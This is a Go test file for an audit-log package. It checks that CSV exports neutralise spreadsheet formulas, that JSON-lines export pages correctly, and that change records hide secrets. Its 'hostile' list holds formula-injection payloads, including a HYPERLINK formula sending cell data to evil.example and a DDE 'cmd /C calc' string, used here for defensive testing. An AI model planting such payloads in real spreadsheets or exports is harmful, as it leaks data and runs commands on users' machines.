package audit_test

import (
	"bufio"
	"bytes"
	"encoding/csv"
	"encoding/json"
	"errors"
	"maps"
	"strings"
	"testing"

	"github.com/dinhdanh/dinhdanh/server/audit"
	"github.com/dinhdanh/dinhdanh/store"
)

// hostile are values an attacker can put in the log (a name, a client
// name, a reason): in a CSV export none may become a formula.
var hostile = []string{`=HYPERLINK("http://evil.example/?x="&A1,"click")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
	"\t=1+1", "\r=1+1", "dòng 1\ndòng 2, \"trích\""}

func TestExportCSVNeutralisesFormulas(t *testing.T) {
	db := openDB(t)
	log, _ := jsonLog()
	rec := audit.NewRecorder(db, log)
	for _, h := range hostile {
		if err := rec.Record(t.Context(), audit.Entry{Event: audit.AccountCreate, Actor: h, Subject: h, ClientID: h,
			Address: h, Details: map[string]string{"full_name": h}}); err != nil {
			t.Fatal(err)
		}
	}
	var buf bytes.Buffer
	n, err := audit.Export(t.Context(), db, store.AuditFilter{}, audit.ExportCSV, &buf)
	if err != nil || n != int64(len(hostile)) {
		t.Fatalf("Export = %d, %v", n, err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if strings.Join(rows[0], ",") != strings.Join(audit.CSVHeader, ",") || len(rows) != len(hostile)+1 {
		t.Fatalf("CSV = %q", rows)
	}
	for i, row := range rows[1:] {
		h := hostile[len(hostile)-1-i] // newest first
		for j, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("row %d cell %s = %q begins a formula", i, audit.CSVHeader[j], cell)
			}
		}
		want := audit.CSVCell(h)
		if row[3] != want || row[4] != want || row[5] != want || row[6] != want {
			t.Errorf("row %d = %q, want %q in actor, subject, client and address", i, row, want)
		}
		if strings.ContainsRune("=+-@\t\r", rune(h[0])) && want != "'"+h {
			t.Errorf("CSVCell(%q) = %q", h, want)
		}
		var details map[string]string
		if err := json.Unmarshal([]byte(row[7]), &details); err != nil || details["full_name"] != h {
			t.Errorf("row %d details %q: %v", i, row[7], err)
		}
	}
}

func TestExportJSONLinesPagesEverything(t *testing.T) {
	db := openDB(t)
	log, _ := jsonLog()
	rec := audit.NewRecorder(db, log)
	for i := range 25 {
		ev := audit.LoginSuccess
		if i%3 == 0 {
			ev = audit.LoginFailure
		}
		if err := rec.Record(t.Context(), audit.Entry{Event: ev, Actor: "anonymous", Subject: "s", Address: "203.0.113.7",
			Details: map[string]string{"i": string(rune('a' + i)), "html": "<b>&</b>"}}); err != nil {
			t.Fatal(err)
		}
	}
	var buf bytes.Buffer
	// Pages of 4 events: the export reads seven pages and keeps them in order.
	n, err := audit.Export(t.Context(), db, store.AuditFilter{Types: []string{"login.success"}, Limit: 4}, audit.ExportJSONLines, &buf)
	if err != nil || n != 16 {
		t.Fatalf("Export = %d, %v; want 16", n, err)
	}
	want, err := db.SearchAudit(t.Context(), store.AuditFilter{Types: []string{"login.success"}, Limit: 100})
	if err != nil {
		t.Fatal(err)
	}
	sc := bufio.NewScanner(&buf)
	i := 0
	for sc.Scan() {
		var got audit.JSONEvent
		if err := json.Unmarshal(sc.Bytes(), &got); err != nil {
			t.Fatalf("line %d %q: %v", i, sc.Text(), err)
		}
		w := want[i]
		if got.ID != w.ID || got.Type != w.Type || !got.Time.Equal(w.Time) || got.Hash != w.Hash || got.PrevHash != w.PrevHash ||
			!maps.Equal(got.Details, w.Details) || got.Address != w.Address {
			t.Fatalf("line %d = %+v, want %+v", i, got, w)
		}
		if !strings.Contains(sc.Text(), "<b>&</b>") {
			t.Fatalf("line %d escapes HTML: %s", i, sc.Text())
		}
		i++
	}
	if i != len(want) {
		t.Fatalf("%d lines, want %d", i, len(want))
	}

	if _, err := audit.Export(t.Context(), db, store.AuditFilter{Limit: 5000}, audit.ExportCSV, &buf); !errors.Is(err, store.ErrInvalidAuditFilter) {
		t.Fatalf("Export with an invalid filter: %v", err)
	}
	if _, err := audit.ParseExportFormat("xlsx"); err == nil {
		t.Fatal("ParseExportFormat(xlsx) accepted")
	}
}

func TestChanges(t *testing.T) {
	got := audit.Changes(
		map[string]string{"lock_reason": "", "full_name": "Nguyễn Văn A", "password": "old-hash", "email": "a@example.vn",
			"client_secret": "s1"},
		map[string]string{"lock_reason": "lost phone", "full_name": "Nguyễn Văn A", "password": "new-hash", "phone": "+84912345678",
			"client_secret": "s2"})
	want := map[string]string{"lock_reason.before": "", "lock_reason.after": "lost phone", "password": "changed",
		"email.before": "a@example.vn", "email.after": "", "phone.before": "", "phone.after": "+84912345678",
		"client_secret": "changed"}
	if !maps.Equal(got, want) {
		t.Fatalf("Changes = %v, want %v", got, want)
	}
	for k, v := range got {
		if strings.Contains(v, "hash") || v == "s1" || v == "s2" {
			t.Errorf("Changes recorded a secret: %s=%s", k, v)
		}
	}
	if c := audit.Changes(map[string]string{"a": "1"}, map[string]string{"a": "1"}); c != nil {
		t.Fatalf("Changes of nothing = %v", c)
	}
}
